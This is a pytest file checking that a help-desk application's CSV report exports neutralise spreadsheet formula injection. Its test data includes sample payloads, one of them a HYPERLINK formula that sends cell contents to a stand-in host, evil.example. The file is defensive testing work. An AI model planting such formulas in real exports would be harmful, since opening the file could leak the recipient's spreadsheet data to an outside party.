"""CSV formula injection (issue 12): text cells that a spreadsheet would run are neutralised.

A cell whose text starts with `=`, `+`, `-`, `@`, TAB or CR gets a leading `'` (OWASP), and
every text cell is quoted; numbers (also negative ones) stay bare numbers. Each CSV path is
read back with the csv module: `/reports/export` (COPY on PostgreSQL, Python on SQLite),
`/reports/custom`, `/reports/analytics`, summary reports, report jobs and scheduled reports.
JSON and XLSX keep the text as it is.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import openpyxl
import pytest

from tests.conftest import make_operator
from uanl.core import db as dbmod
from uanl.models import (
    Call,
    CallDirection,
    CallOutcome,
    Client,
    Report,
    ReportSchedule,
    Role,
    Ticket,
)
from uanl.reports import export, jobs
from uanl.reports.csv_safety import neutralise
from uanl.reports.formats import Column, ReportMeta, stream
from uanl.reports.schedules import run_due

# One text per dangerous first character (OWASP's list: = + - @ TAB CR).
EVIL = [
    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB=1",
    "\rCR=1",
]
SAFE = "Impresora sin tóner, piso 2"
CATEGORY = "=1+1"
CLIENT = "@SUM(1)"
OPERATOR = "-Operador"
# 18:30 UTC on 3 Nov 2026 is 12:30 in Monterrey.
T0 = datetime(2026, 11, 3, 18, 30, tzinfo=UTC)
PERIOD = {"from": "2026-11-01", "to": "2026-11-30"}


def _seed() -> dict[str, int]:
    """Tickets titled with each trigger (one safe), a nasty category, client and operator."""
    op = make_operator(OPERATOR, "malicioso@example.mx", Role.operator, is_available=False)
    ids: dict[str, int] = {}
    with dbmod.session_scope() as db:
        acme = Client(name=CLIENT)
        db.add(acme)
        db.flush()
        for title in [*EVIL, SAFE]:
            t = Ticket(
                title=title,
                category=CATEGORY,
                client_id=acme.id,
                assignee_id=op.id,
                created_at=T0,
                # Not a real level: proves a negative integer column stays a bare number.
                escalation_level=-1,
            )
            db.add(t)
            db.flush()
            ids[title] = t.id
        call = Call(
            client_id=acme.id,
            operator_id=op.id,
            direction=CallDirection.inbound,
            outcome=CallOutcome.resolved,
            started_at=T0,
            duration_s=42,
            wait_s=-7,
        )
        db.add(call)
        db.flush()
        ids["call"] = call.id
    return ids


def _parse(text: str) -> tuple[list[str], list[list[str]], list[list[Any]]]:
    """(header, rows as text, rows typed): the typed read turns every unquoted cell into a
    float and leaves quoted ones as str, so it tells a number from a text that looks like one.
    """
    text = text.removeprefix("\ufeff")
    head_line, body = text.split("\n", 1)
    head = next(csv.reader([head_line]))
    rows = list(csv.reader(io.StringIO(body)))
    typed = list(csv.reader(io.StringIO(body), quoting=csv.QUOTE_NONNUMERIC))
    assert len(rows) == len(typed)
    return head, rows, typed


def _ok(resp: Any) -> str:
    assert resp.status_code == 200, resp.text
    assert resp.headers["content-type"].startswith("text/csv"), resp.headers
    return resp.content.decode("utf-8-sig")


def _check_tickets(text: str, ids: dict[str, int], title: str, category: str, ident: str):
    head, rows, typed = _parse(text)
    col = {name: i for i, name in enumerate(head)}
    by_id = {int(r[col[ident]]): (r, t) for r, t in zip(rows, typed, strict=True)}
    for value in EVIL:
        row, typed_row = by_id[ids[value]]
        assert row[col[title]] == "'" + value, (value, row)
        assert typed_row[col[title]] == "'" + value  # quoted: read back as text
        assert row[col[category]] == "'" + CATEGORY
        assert typed_row[col[ident]] == float(ids[value])  # unquoted: a number
        assert isinstance(typed_row[col[ident]], float)
    row, _ = by_id[ids[SAFE]]
    assert row[col[title]] == SAFE
    return head, col, by_id


def test_neutralise_strings_only() -> None:
    for value in EVIL + [CATEGORY, CLIENT, OPERATOR]:
        assert neutralise(value) == "'" + value
    for value in (SAFE, "", "'=ya neutralizado", " =espacio", "a=b", "2026-11-03 12:30:00"):
        assert neutralise(value) == value
    for value in (-3, -2.5, Decimal("-1.25"), 0, None, True):
        assert neutralise(value) is value


def test_writer_keeps_numbers_numeric_and_quotes_neutralised_text() -> None:
    columns = [
        Column("name", "Nombre", "Name", "text"),
        Column("n", "Cantidad", "Count", "int"),
        Column("x", "Valor", "Value", "float"),
        Column("d", "Decimal", "Decimal", "float"),
    ]
    rows = [{"name": v, "n": -3, "x": -2.5, "d": Decimal("-1.5")} for v in EVIL]
    rows.append({"name": None, "n": None, "x": 0.5, "d": None})
    meta = ReportMeta("Prueba", "Test")
    raw = b"".join(stream(iter(rows), columns, "csv", meta=meta)).decode()
    assert raw.startswith("Nombre,Cantidad,Valor,Decimal\r\n")  # header as before
    assert '"\'+1+1",-3,-2.5,-1.5\r\n' in raw
    head, text_rows, typed = _parse(raw)
    assert [r[0] for r in text_rows[:-1]] == ["'" + v for v in EVIL]
    assert typed[0][1:] == [-3.0, -2.5, -1.5]
    assert text_rows[-1] == ["", "", "0.5", ""]


def test_export_tickets_and_calls(client: Any, staff: Any, sup_h: dict[str, str]) -> None:
    ids = _seed()
    url = "/api/v1/reports/export"
    text = _ok(client.get(url, headers=sup_h))
    _, col, by_id = _check_tickets(text, ids, "Título", "Categoría", "ID")
    for value in EVIL:
        row, typed_row = by_id[ids[value]]
        assert row[col["Cliente"]] == "'" + CLIENT
        assert row[col["Asignado a"]] == "'" + OPERATOR
        assert typed_row[col["Nivel de escalamiento"]] == -1.0
        assert row[col["Creado"]] == "2026-11-03 12:30:00"
    assert '"\'+1+1"' in text  # the neutralised cell is quoted
    head, rows, typed = _parse(_ok(client.get(url, params={"entity": "calls"}, headers=sup_h)))
    col = {name: i for i, name in enumerate(head)}
    assert rows[0][col["Cliente"]] == "'" + CLIENT
    assert rows[0][col["Operador"]] == "'" + OPERATOR
    assert typed[0][col["Espera"]] == -7.0 and typed[0][col["Duración"]] == 42.0
    assert typed[0][col["ID"]] == float(ids["call"])


def test_copy_and_python_exports_agree_on_neutralised_cells(client, staff, backend) -> None:
    ids = _seed()
    for entity in ("tickets", "calls"):
        flt = export.ExportFilter(entity)  # type: ignore[arg-type]
        with dbmod.read_scope() as db:
            py = b"".join(export.csv_chunks(db, flt, use_copy=False))
        if backend.name == "postgres":
            with dbmod.read_scope() as db:
                pg = b"".join(export.csv_chunks(db, flt, use_copy=True))
            assert pg == py
        if entity == "tickets":
            _check_tickets(py.decode(), ids, "Título", "Categoría", "ID")
        else:
            assert f'"\'{CLIENT}"'.encode() in py


def test_custom_report_csv(client: Any, staff: Any, sup_h: dict[str, str]) -> None:
    ids = _seed()
    url = "/api/v1/reports/custom"
    spec = {
        "dataset": "tickets",
        "columns": ["id", "title", "category", "escalation_level"],
        "format": "csv",
    }
    text = _ok(client.post(url, json=spec, headers=sup_h))
    _, col, by_id = _check_tickets(text, ids, "Título", "Categoría", "ID")
    assert by_id[ids[EVIL[0]]][1][col["Nivel de escalamiento"]] == -1.0
    grouped = {"dataset": "tickets", "group_by": ["category"], "format": "csv", "lang": "en"}
    head, rows, typed = _parse(_ok(client.post(url, json=grouped, headers=sup_h)))
    assert head == ["Category", "Count"]
    assert rows == [["'" + CATEGORY, str(len(EVIL) + 1)]]
    assert typed == [["'" + CATEGORY, float(len(EVIL) + 1)]]
    # JSON and XLSX keep the text as stored.
    body = client.post(url, json={**spec, "format": "json"}, headers=sup_h).json()
    assert {r["title"] for r in body["rows"]} == {*EVIL, SAFE}
    resp = client.post(url, json={**spec, "format": "xlsx"}, headers=sup_h)
    assert resp.status_code == 200, resp.text
    sheet = openpyxl.load_workbook(io.BytesIO(resp.content))["Datos"]
    cells = list(sheet.iter_rows(min_row=2, values_only=True))
    # `_x000D_` is how OOXML stores a CR (Excel reads it back as CR); openpyxl leaves it be.
    titles = {c[1].replace("_x000D_", "\r") for c in cells}
    assert titles == {*EVIL, SAFE} and {c[2] for c in cells} == {CATEGORY}
    assert {c[3] for c in cells} == {-1}


def test_analytics_feed_csv(client: Any, staff: Any, sup_h: dict[str, str]) -> None:
    ids = _seed()
    url = "/api/v1/reports/analytics"
    text = _ok(client.get(url, params={"format": "csv", "lang": "en"}, headers=sup_h))
    _, col, by_id = _check_tickets(text, ids, "Title", "Category", "ID")
    row, typed_row = by_id[ids[EVIL[1]]]
    assert row[col["Client"]] == "'" + CLIENT and row[col["Assignee"]] == "'" + OPERATOR
    assert typed_row[col["Escalation level"]] == -1.0
    params = {"format": "csv", "entity": "calls"}
    head, rows, typed = _parse(_ok(client.get(url, params=params, headers=sup_h)))
    col = {name: i for i, name in enumerate(head)}
    assert rows[0][col["Cliente"]] == "'" + CLIENT
    assert typed[0][col["Espera"]] == -7.0
    items = client.get(url, headers=sup_h).json()["items"]
    assert {i["title"] for i in items} == {*EVIL, SAFE}  # JSON unchanged


@pytest.mark.parametrize(
    ("report", "params", "column"),
    [("calls", {"group_by": "client"}, "Nombre"), ("operators", {}, "Nombre")],
)
def test_summary_report_csv(client, staff, sup_h, report, params, column) -> None:
    _seed()
    query = {**PERIOD, **params, "format": "csv"}
    resp = client.get(f"/api/v1/reports/{report}", params=query, headers=sup_h)
    head, rows, typed = _parse(_ok(resp))
    names = [r[head.index(column)] for r in rows]
    expected = "'" + (CLIENT if report == "calls" else OPERATOR)
    assert expected in names
    assert '"' + expected + '"' in resp.text
    if report == "calls":
        assert typed[names.index(expected)][head.index("Llamadas")] == 1.0


def _read_job_file(report_id: int) -> str:
    assert jobs.run_job(report_id) == "done"
    from uanl.reports.storage import get_storage

    with dbmod.session_scope() as db:
        key = db.get(Report, report_id).file_path
    with get_storage().open_read(key) as fh:
        return fh.read().decode("utf-8-sig")


def test_report_job_csv(client: Any, staff: Any, sup_h: dict[str, str]) -> None:
    ids = _seed()
    body = {"report": "analytics", "format": "csv", "params": {"entity": "tickets"}}
    resp = client.post("/api/v1/reports/jobs", json=body, headers=sup_h)
    assert resp.status_code == 202, resp.text
    text = _read_job_file(resp.json()["id"])
    _check_tickets(text, ids, "Título", "Categoría", "ID")


def test_scheduled_report_csv(client: Any, staff: Any, admin_h: dict[str, str]) -> None:
    ids = _seed()
    body = {
        "name": "Tickets para BI",
        "report_type": "custom",
        "format": "csv",
        "params": {"dataset": "tickets", "columns": ["id", "title", "category"]},
        "recurrence": {"every": "day", "at": "08:00"},
        "recipients": ["bi@example.mx"],
    }
    resp = client.post("/api/v1/reports/schedules", json=body, headers=admin_h)
    assert resp.status_code == 201, resp.text
    now = datetime.now(UTC)
    with dbmod.session_scope() as db:
        db.get(ReportSchedule, resp.json()["id"]).next_run_at = now - timedelta(hours=1)
    with dbmod.session_scope() as db:
        created = run_due(db, now)
    assert len(created) == 1
    _check_tickets(_read_job_file(created[0]), ids, "Título", "Categoría", "ID")
